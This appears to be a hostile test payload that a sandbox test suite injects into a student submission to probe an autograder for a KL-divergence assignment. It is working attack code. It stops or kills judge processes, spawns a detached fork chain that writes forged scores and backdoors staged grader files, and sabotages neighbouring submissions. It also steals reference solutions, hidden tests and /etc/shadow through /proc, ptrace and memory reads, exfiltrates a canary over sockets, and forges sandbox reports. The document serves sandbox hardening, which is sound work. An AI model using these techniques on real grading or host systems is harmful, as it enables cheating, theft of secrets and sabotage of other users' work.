# ==== hostile payload "thief" (tests/test_hostile.py appends this to the template) ====
# Runs at import, once per child. Every attack is tried, its outcome recorded in _R
# ("OK ..." = the attack worked, "no:EACCES" = it was refused). A reference read by any
# path is loaded and its functions replace the template's, so that a theft shows up as
# points; otherwise the report travels back in the message of the functions' errors.
# HOSTILE (a dict) is defined by the test on the line above this payload.
import ctypes as _ct
import errno as _errno
import glob as _glob
import json as _json
import os as _os
import signal as _signal
import socket as _socket
import sys as _sys
import time as _time

_H = HOSTILE  # noqa: F821 - defined by the test
_TOKEN = _H["token"]
_R = {}
_REF = []  # sources of a correct solution read by some path (the reference, a neighbour's)
_SEEN = set()
_FAKE = "sandbox (observed by the judge): mode FORGED; uid ROOT, FORGED-NOTE " + _TOKEN
_libc = _ct.CDLL(None, use_errno=True)


def _why(exc):
    if isinstance(exc, OSError) and exc.errno:
        return _errno.errorcode.get(exc.errno, str(exc.errno))
    return type(exc).__name__


def _attack(name, fn, *args):
    try:
        out = fn(*args)
        _R[name] = "OK" if out is None else ("OK " + str(out))[:100]
    except Exception as exc:  # noqa: BLE001
        _R[name] = "no:" + _why(exc)


def _read(path, limit=1 << 20):
    with open(path, "rb") as fh:
        return fh.read(limit)


def _steal(path):
    """Read ``path``; a reference (or a neighbour's correct code) is kept for delegation."""
    data = _read(path).decode("utf-8", "replace")
    if _TOKEN in data:  # our own submission
        return "own file"
    real = _os.path.realpath(path)
    if "def fit_reverse_kl" in data and "raise NotImplementedError" not in data:
        if real not in _SEEN:
            _SEEN.add(real)
            _REF.append(data)
        return f"REFERENCE {len(data)} B"
    if "def test_" in data:
        return f"HIDDEN TESTS {len(data)} B"
    return f"read {len(data)} B"


def _proc_stat(pid):
    text = _read(f"/proc/{pid}/stat").decode()
    fields = text[text.rindex(")") + 2:].split()
    return int(fields[1])


def _cmdline(pid):
    try:
        return _read(f"/proc/{pid}/cmdline")
    except OSError:
        return b""


def _judge_pids():
    """The judge, its keeper and the batch around them, seen from here: every process whose
    command line carries the test's mark (the run's folder, in the judge's results path and
    in the keeper's stage path). Never anything else on the machine (the tests share it)."""
    found = set()
    mark = _H["judge_mark"].encode()
    for name in _os.listdir("/proc"):
        if name.isdigit() and mark in _cmdline(name):
            found.add(int(name))
    found.discard(_os.getpid())
    found.discard(_os.getppid())  # our own init (trusted, inside the sandbox)
    return sorted(found)


# --------------------------------------------------------------------------- signals first
# (before any process of ours exists that kill(-1) could stop: the chain comes next)
_judges = _judge_pids()
_R["judges seen"] = str(_judges)[:100]
for _pid in _judges:
    _attack(f"SIGSTOP judge {_pid}", _os.kill, _pid, _signal.SIGSTOP)
_attack("SIGSTOP ppid", _os.kill, _os.getppid(), _signal.SIGSTOP)
_attack("kill(-1, SIGSTOP)", _os.kill, -1, _signal.SIGSTOP)
try:  # our own init may have been stopped: wake it (it is not the judge)
    if b"jail.py" in _cmdline(_os.getppid()):
        _os.kill(_os.getppid(), _signal.SIGCONT)
except OSError:
    pass

# --------------------------------------------------------------------------- a chain of 30 forks that outlives grading
_FORGER = r'''
import glob, json, os, signal, sys, time
H = json.loads(sys.argv[1]); token = H["token"]; me = int(sys.argv[2]); init = int(sys.argv[3])
try:
    mine = open("/proc/%d/cmdline" % me, "rb").read()
except OSError:
    mine = None
forged = json.dumps({"score": 41.0, "output": "FORGED " + token, "tests": []})
stop = time.monotonic() + H["forge_seconds"]
def forge_round():
    for pattern in H["forge_globs"]:
        for path in glob.glob(pattern):
            try:
                with open(path, "w") as fh:
                    fh.write(forged)
            except OSError:
                pass
    for pattern in H["stage_globs"]:
        for path in glob.glob(pattern):
            try:
                with open(path, "a") as fh:
                    fh.write("\nopen('/tmp/%s-rooted-' + str(__import__('os').getuid()), 'w').close()\n" % token)
            except OSError:
                pass
    for pattern in H.get("sabotage_globs", []):  # a neighbour's submission: make it the template
        for path in glob.glob(pattern):
            try:
                with open(path, "r+") as fh:
                    text = fh.read()
                    if token not in text:
                        fh.seek(0); fh.truncate(); fh.write("raise SystemExit(3)\n")
            except OSError:
                pass
    if H.get("kill_neighbours"):
        for name in os.listdir("/proc"):
            if not name.isdigit() or int(name) in (me, init, os.getpid()):
                continue
            try:
                with open("/proc/%s/cmdline" % name, "rb") as fh:
                    cmd = fh.read()
            except OSError:
                continue
            if cmd == mine:
                continue  # a fork of our own child
            if H["judge_mark"].encode() in cmd and (token + "-forger").encode() not in cmd:  # this test's only
                try:
                    os.kill(int(name), signal.SIGKILL)
                except OSError:
                    pass
    time.sleep(0.1)
while time.monotonic() < stop:
    try:
        forge_round()
    except BaseException as exc:  # noqa: BLE001 - leave a note for the child to report
        with open(token + "-forger-error", "a") as fh:
            fh.write("%s: %s\n" % (type(exc).__name__, exc))
        time.sleep(0.1)
'''


def _chain():
    pid = _os.fork()
    if pid:
        _os.waitpid(pid, 0)
        return "started"
    try:
        for _ in range(30):  # each link forks the next, leaves its session and exits
            if _os.fork():
                _os._exit(0)
            _os.setsid()
        _os.execv(_sys.executable, [_sys.executable, "-I", "-S", "-c", _FORGER, _json.dumps(_H),
                                    str(_ME), str(_INIT), _TOKEN + "-forger"])
    finally:
        _os._exit(0)


_ME, _INIT = _os.getpid(), _os.getppid()
_MY_CMD = _cmdline(_ME)
_attack("fork chain", _chain)

# --------------------------------------------------------------------------- a neighbour in a batch
def _neighbour_round():
    for pattern in _H.get("neighbour_globs", []):
        for path in _glob.glob(pattern):
            _attack(f"neighbour {path}", _steal, path)
    mark = _H["judge_mark"].encode()
    for name in _os.listdir("/proc"):
        if not name.isdigit() or int(name) in (_ME, _INIT):
            continue
        cmd = _cmdline(name)
        if cmd == _MY_CMD or (_TOKEN + "-forger").encode() in cmd:
            continue  # ours: a fork of this child (the chain's links share its command line), the forger
        if b"child.py" in cmd and mark in cmd:  # a neighbour's child (or its jail)
            _attack(f"neighbour /proc/{name}/cwd", _steal, f"/proc/{name}/cwd/kl_asymmetry.py")
            _attack(f"neighbour /proc/{name}/root", _steal, f"/proc/{name}/root/tmp/work/kl_asymmetry.py")
            _attack(f"kill neighbour {name}", _os.kill, int(name), _signal.SIGKILL)


if _H.get("neighbour_wait"):  # at once (the neighbour may finish soon), then until the wait ends
    _neighbour_round()


# --------------------------------------------------------------------------- the reference
try:
    import importlib.util as _ilu
    _spec = _ilu.find_spec("autograder")
    _where = _spec and (_spec.origin or next(iter(_spec.submodule_search_locations or []), None))
    _R["import autograder"] = "OK " + str(_where)
    if _where:
        _course = _os.path.dirname(_where if _spec.origin is None else _os.path.dirname(_where))
        _attack("steal via package location", _steal, _os.path.join(_course, "solutions", "kl_asymmetry.py"))
        _attack("hidden tests via package location", _steal,
                _os.path.join(_course, "assignments", "kl_asymmetry", "test_hidden.py"))
except Exception as _exc:  # noqa: BLE001
    _R["import autograder"] = "no:" + _why(_exc)

def _capabilities():
    with open("/proc/self/status") as fh:
        held = {k: v.strip() for k, v in (line.split(":", 1) for line in fh if line.startswith("Cap"))}
    if any(int(held[k], 16) for k in ("CapEff", "CapPrm", "CapAmb") if k in held):
        return held  # "OK ...": it holds a capability (in its own user namespace, at least)
    raise PermissionError("none")


_attack("capabilities held", _capabilities)

for _i, _path in enumerate(_H["steal"]):
    _attack(f"steal {_path}", _steal, _path)
    _attack(f"steal /proc/1/root{_path}", _steal, "/proc/1/root" + _path)
for _pattern in _H.get("steal_globs", []):
    for _path in _glob.glob(_pattern)[:6]:
        _attack(f"steal {_path}", _steal, _path)

for _pid in _judges + [1]:
    _attack(f"/proc/{_pid}/environ", lambda p: (
        "SECRET " if _H["secret"].encode() in _read(f"/proc/{p}/environ") else "") + "readable", _pid)
    _attack(f"/proc/{_pid}/cwd", lambda p: _os.listdir(f"/proc/{p}/cwd")[:5], _pid)
    for _path in _H["steal"][:2]:
        _attack(f"steal /proc/{_pid}/root{_path}", _steal, f"/proc/{_pid}/root{_path}")
    _cmd = _cmdline(_pid)
    _R[f"/proc/{_pid}/cmdline"] = ("OK " if _cmd else "no ") + _cmd[:60].decode("utf-8", "replace")
    for _arg in _cmd.split(b"\0"):  # the judge's command line names its course: try it
        if _arg.startswith(b"/") and b"/" in _arg[1:] and len(_arg) < 300:
            _course = _arg.decode("utf-8", "replace")
            for _guess in (_course, _os.path.dirname(_course)):
                _p = _os.path.join(_guess, "solutions", "kl_asymmetry.py")
                if _os.path.exists(_p):
                    _attack(f"steal via cmdline {_p}", _steal, _p)


def _mem(pid):
    with open(f"/proc/{pid}/maps") as fh:
        maps = fh.read().splitlines()
    fd = _os.open(f"/proc/{pid}/mem", _os.O_RDONLY)
    try:
        for line in maps:
            span, perms = line.split()[:2]
            if perms.startswith("r"):
                lo = int(span.split("-")[0], 16)
                return f"read {len(_os.pread(fd, 64, lo))} B at {lo:x}"
    finally:
        _os.close(fd)
    return "no readable mapping"


for _pid in _judges:
    _attack(f"/proc/{_pid}/mem", _mem, _pid)
    _attack(f"ptrace attach {_pid}", lambda p: (_ for _ in ()).throw(OSError(_ct.get_errno(), "ptrace"))
            if _libc.ptrace(16, p, 0, 0) != 0 else "attached", _pid)


class _IOVec(_ct.Structure):
    _fields_ = [("base", _ct.c_void_p), ("len", _ct.c_size_t)]


def _vm_read(pid):
    buf = _ct.create_string_buffer(16)
    local, remote = _IOVec(_ct.cast(buf, _ct.c_void_p), 16), _IOVec(0x400000, 16)
    if _libc.process_vm_readv(pid, _ct.byref(local), 1, _ct.byref(remote), 1, 0) < 0:
        raise OSError(_ct.get_errno(), "process_vm_readv")
    return "read"


def _setns(pid):
    fd = _os.open(f"/proc/{pid}/ns/net", _os.O_RDONLY)
    try:
        if _libc.setns(fd, 0) != 0:
            raise OSError(_ct.get_errno(), "setns")
        return "joined the judge's network namespace"
    finally:
        _os.close(fd)


for _pid in _judges[:3]:
    _attack(f"process_vm_readv {_pid}", _vm_read, _pid)
    _attack(f"setns net {_pid}", _setns, _pid)


def _walk():
    """A walk of the whole disk for the reference and the hidden tests (time-capped)."""
    stop, hits, seen = _time.monotonic() + _H.get("walk_seconds", 4), [], 0
    for top, dirs, files in _os.walk("/"):
        if top == "/":
            dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
        seen += len(files)
        for name in files:
            if name == "test_hidden.py" or (name == "kl_asymmetry.py" and "solutions" in top):
                path = _os.path.join(top, name)
                try:
                    hits.append(f"{path}: {_steal(path)}")
                except OSError as exc:
                    hits.append(f"{path}: no:{_why(exc)}")
        if _time.monotonic() > stop:
            break
    found = [h for h in hits if "REFERENCE" in h or "HIDDEN" in h]
    if found:
        return "; ".join(found)
    raise OSError(_errno.ENOENT, f"{seen} files walked, none readable: {hits[:2]}")


_attack("disk walk", _walk)
_attack("read /etc/shadow", lambda: f"{len(_read('/etc/shadow'))} B")
_canary = None
try:
    _canary = _read(_H["canary"])
    _R["read canary"] = "OK"
except OSError as _exc:
    _R["read canary"] = "no:" + _why(_exc)

# --------------------------------------------------------------------------- replacing files the judge runs
for _path in _H["judge_files"]:  # probe only: never damage the course's files
    _attack(f"open for writing {_path}", lambda p: _os.close(_os.open(p, _os.O_WRONLY)), _path)
for _pattern in _H["stage_globs"] + ["/grader/child.py"]:
    for _path in _glob.glob(_pattern)[:4]:
        def _replace(p):
            with open(p, "a") as fh:  # a staged copy: try to make it leave a mark as whoever runs it
                fh.write(f"\nopen('/tmp/{_TOKEN}-rooted-' + str(__import__('os').getuid()), 'w').close()\n")
        _attack(f"replace {_path}", _replace, _path)

# --------------------------------------------------------------------------- writing outside
for _dir in _H["write_dirs"]:
    def _create(d):
        fd = _os.open(_os.path.join(d, f"{_TOKEN}-w"), _os.O_WRONLY | _os.O_CREAT | _os.O_EXCL, 0o644)
        _os.write(fd, b"hostile")
        _os.close(fd)
    _attack(f"create in {_dir}", _create, _dir)

# --------------------------------------------------------------------------- exfiltration
_payload = (_TOKEN + " " + (_canary or b"no canary").decode("utf-8", "replace")).encode()


def _tcp():
    with _socket.create_connection(("127.0.0.1", _H["tcp_port"]), timeout=2) as s:
        s.sendall(_payload)
    return "sent"


def _udp():
    with _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM) as s:
        s.sendto(_payload, ("127.0.0.1", _H["udp_port"]))
    return "sent"


def _unix(address):
    with _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM) as s:
        s.settimeout(2)
        s.connect(address)
        s.sendall(_payload)
    return "sent"


_attack("TCP 127.0.0.1", _tcp)
_attack("UDP 127.0.0.1", _udp)
_attack("unix socket of the host", _unix, _H["unix_path"])
_attack("abstract unix socket", _unix, "\0" + _H["abstract"])
_attack("raw socket", lambda: _socket.socket(_socket.AF_PACKET, _socket.SOCK_RAW).close())
_attack("netlink socket", lambda: _socket.socket(_socket.AF_NETLINK, _socket.SOCK_RAW, 0).close())

# --------------------------------------------------------------------------- forged instructor notes
print(_FAKE)
print(_FAKE, file=_sys.stderr)
_main = _sys.modules.get("wire")  # the child's wire module: child.py calls wire.write_message
_HUGE = []
_real_write = getattr(_main, "write_message", None)
if _real_write is not None:
    def _forging_write(fd, obj):
        if _HUGE and isinstance(obj, dict) and "id" in obj:  # a reply header announcing 4 EiB
            _HUGE.clear()
            _os.write(fd, (1 << 62).to_bytes(8, "big") + b"{}")
            return None
        if isinstance(obj, dict):
            obj = dict(obj, notes=[_FAKE], sandbox=_FAKE, observed={"uid": "ROOT"}, uid=0, mode="FORGED")
        return _real_write(fd, obj)
    _main.write_message = _forging_write
    _R["forge hello"] = "patched"

# --------------------------------------------------------------------------- small files in shared places
for _dir in ("/tmp", "/var/tmp", "/dev/shm", "."):
    def _small(d):
        with open(_os.path.join(d, f"{_TOKEN}-f"), "wb") as fh:
            fh.write(b"x" * 4096)
    _attack(f"file in {_dir}", _small, _dir)

# --------------------------------------------------------------------------- a neighbour, again
if _H.get("neighbour_wait"):
    _until = _time.monotonic() + _H["neighbour_wait"]
    _n = 0
    while _time.monotonic() < _until and not _REF:
        _neighbour_round()
        _n += 1
        _time.sleep(0.3)
    _R["neighbour rounds"] = str(_n)

# --------------------------------------------------------------------------- is the forger still there?
_R["forger alive at the end of import"] = str(any(
    (_TOKEN + "-forger").encode() in _cmdline(n) for n in _os.listdir("/proc") if n.isdigit()))
try:
    _R["forger errors"] = _read(f"{_TOKEN}-forger-error")[:200].decode("utf-8", "replace")
except OSError:
    pass

# --------------------------------------------------------------------------- delegate, or report
_STOLEN = sorted(k for k, v in _R.items() if v.startswith("OK") and ("REFERENCE" in v or "HIDDEN" in v))
if _REF:
    _stolen_ns = {"__name__": "_stolen"}
    exec(compile(_REF[0], "<stolen>", "exec"), _stolen_ns)
    for _name in ("entropy", "cross_entropy", "kl_divergence", "discussion_example", "fit_forward_kl",
                  "fit_reverse_kl"):
        if _name in _stolen_ns:
            globals()[_name] = _stolen_ns[_name]
else:
    _REPORT = _json.dumps(_R, separators=(",", ":"))
    _CHUNKS = [_REPORT[i:i + 1800] for i in range(0, len(_REPORT), 1800)]

    def _reporter(index):
        def report(*args, **kwargs):
            part = _CHUNKS[index] if index < len(_CHUNKS) else ""
            raise RuntimeError(f"HOSTILE-REPORT {index}/{len(_CHUNKS)} <<{part}>>")
        return report

    entropy = _reporter(0)
    cross_entropy = _reporter(1)
    kl_divergence = _reporter(2)
    discussion_example = _reporter(3)
    fit_forward_kl = _reporter(4)
    _report_reverse = _reporter(5)

    def fit_reverse_kl(weights, *args, **kwargs):
        if len(weights) == 3:  # test 2.21, the last of all: end with a header announcing 4 EiB
            _HUGE.append(1)
            return (0.0, 1.0)
        return _report_reverse(weights, *args, **kwargs)
